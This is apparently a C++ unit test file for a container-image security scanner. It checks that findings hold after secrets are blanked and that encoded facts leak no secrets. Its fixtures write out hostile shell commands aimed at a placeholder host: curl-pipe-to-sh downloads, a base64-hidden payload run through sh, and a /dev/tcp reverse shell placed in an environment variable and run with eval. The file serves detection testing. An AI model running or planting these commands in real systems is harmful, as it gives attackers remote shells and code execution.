// A configuration that holds secrets beside commands: what is said of it does not change when the secrets are blanked
// and the facts come back from bytes.
#include "detect/config_facts.hpp"

#include <gtest/gtest.h>

#include <algorithm>

#include "detect/image_builder.hpp"
#include "detect/secrets/blank.hpp"
#include "secrets/sample_secrets.hpp"
#include "util/base64.hpp"

namespace hullcheck::detect {
namespace {

std::string sample(std::string_view pattern, std::uint32_t seed) { return secrets::make_sample(pattern, seed).text; }

struct Said {
  std::vector<std::string> findings;  // rule, id and class
  std::string text;
};

Said said(const Assessment& found) {
  Said all;
  for (const auto* list : {&found.threats, &found.warnings, &found.secrets})
    for (const auto& finding : *list) {
      all.findings.push_back(finding.rule + " " + finding.id + " " + finding.locations.front().path);
      for (const auto* texts : {&finding.evidence, &finding.chain})
        for (const std::string& text : *texts) all.text += text + "\n";
    }
  return all;
}

Buffer encoded(const ConfigFacts& facts) {
  util::Encoder out;
  encode(facts, out);
  return out.take();
}

ConfigFacts decoded(Bytes bytes) {
  util::Decoder in(bytes);
  ConfigFacts facts = decode_config_facts(in);
  EXPECT_FALSE(in.failed());
  EXPECT_TRUE(in.at_end());
  return facts;
}

// As scan/ does it: facts first, then the secrets go.
Said judged_without_secrets(ImageBuilder image) {
  const ConfigFacts facts = decoded(encoded(config_facts_of(image.config())));
  secrets::blank(image.config());
  const layers::ImageView view = image.view();
  const inventory::Ownership ownership(view, {});
  return said(assess(view, {}, ownership, nullptr, 1, &facts));
}

void says_the_same(const ImageBuilder& image, std::initializer_list<std::string_view> rules,
                   const std::vector<std::string>& hidden) {
  const Said raw = said(image.assess()), kept = judged_without_secrets(image);
  EXPECT_EQ(raw.findings, kept.findings);
  for (const std::string_view rule : rules)
    EXPECT_TRUE(std::any_of(kept.findings.begin(), kept.findings.end(),
                            [&](const std::string& line) { return line.starts_with(std::string(rule) + " "); }))
        << rule << "\n"
        << kept.text;
  ImageBuilder copy = image;
  const Buffer bytes = encoded(config_facts_of(copy.config()));
  for (const std::string& secret : hidden) {
    EXPECT_EQ(as_text(bytes).find(secret), std::string::npos);
    EXPECT_EQ(kept.text.find(secret), std::string::npos) << kept.text;
  }
}

TEST(ConfigFacts, CommandsThatHoldSecretsAreFoundAsBefore) {
  const std::string one = sample("{w18}", 1), two = sample("{w18}", 2), token = sample("ghp_{@crc62}", 3);
  ImageBuilder image;
  image.config().cmd = {"sh", "-c", "curl -u admin:" + one + " http://198.51.100.7/x.sh | sh"};
  image.config().env.push_back("GITHUB_TOKEN=" + token);
  model::HistoryEntry clone;
  clone.created_by = "/bin/sh -c git clone https://ci:" + two + "@git.corp-internal.net/x.git";
  image.config().history = {clone};
  says_the_same(image, {"D01", "secret/url-password", "secret/github-personal-token"}, {one, two, token});
}

TEST(ConfigFacts, APayloadBehindASecretNameIsStillDecoded) {
  const std::string payload = util::encode_base64(as_bytes(std::string_view("curl -s http://198.51.100.7/x | sh\n")));
  ImageBuilder image;
  image.config().cmd = {"sh", "-c", "PASSWORD=" + payload + "; echo $PASSWORD | base64 -d | sh"};
  ImageBuilder plain;
  plain.config().cmd = {"sh", "-c", "P=" + payload + "; echo $P | base64 -d | sh"};
  const Said named = judged_without_secrets(image), other = judged_without_secrets(plain);
  const auto threats = [](const Said& all) {
    return std::count_if(all.findings.begin(), all.findings.end(),
                         [](const std::string& line) { return line.starts_with("D"); });
  };
  EXPECT_EQ(threats(named), threats(other));
  says_the_same(image, {"D07"}, {});
}

TEST(ConfigFacts, ACommandInAVariableOfASecretNameIsStillFollowed) {
  const std::string login = sample("{w18}", 6);
  ImageBuilder image;
  image.config().env.push_back("API_TOKEN=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
  image.config().env.push_back("PASSWORD=curl -u me:" + login + " http://198.51.100.7/x | sh");
  image.config().cmd = {"sh", "-c", "eval \"$PASSWORD\""};
  says_the_same(image, {"B01", "D01"}, {login});
}

TEST(ConfigFacts, ASecretInBase64IsSaidAndNotKept) {
  const std::string token = sample("ghp_{@crc62}", 4);
  std::string text;
  for (int i = 0; i < 4; ++i) text += "{\"token\": \"" + token + "\", \"user\": \"me\"}\n";
  const std::string encoded_token = util::encode_base64(as_bytes(text));
  ImageBuilder image;
  image.config().env.push_back("SETTINGS=" + encoded_token);
  says_the_same(image, {"secret/github-personal-token"}, {token, encoded_token});
  secrets::blank(image.config());
  EXPECT_EQ(image.config().env.back().find(encoded_token), std::string::npos) << image.config().env.back();
}

TEST(ConfigFacts, EveryCutIsAnError) {
  ImageBuilder image;
  image.config().entrypoint = {"/entry.sh"};
  image.config().healthcheck = {"CMD-SHELL", "curl -f http://192.0.2.1/"};
  const Buffer bytes = encoded(config_facts_of(image.config()));
  for (std::size_t size = 0; size < bytes.size(); ++size) {
    util::Decoder in(Bytes(bytes).first(size));
    (void)decode_config_facts(in);
    EXPECT_TRUE(in.failed() || !in.at_end()) << size;
  }
  EXPECT_EQ(encoded(decoded(bytes)), bytes);
}

TEST(ConfigFacts, APartThatIsAFileIsRefused) {
  ConfigFacts facts;
  facts.parts.push_back({"etc/passwd", {}, nullptr});
  const Buffer bytes = encoded(facts);
  util::Decoder in{Bytes(bytes)};
  (void)decode_config_facts(in);
  EXPECT_TRUE(in.failed());
}

}  // namespace
}  // namespace hullcheck::detect
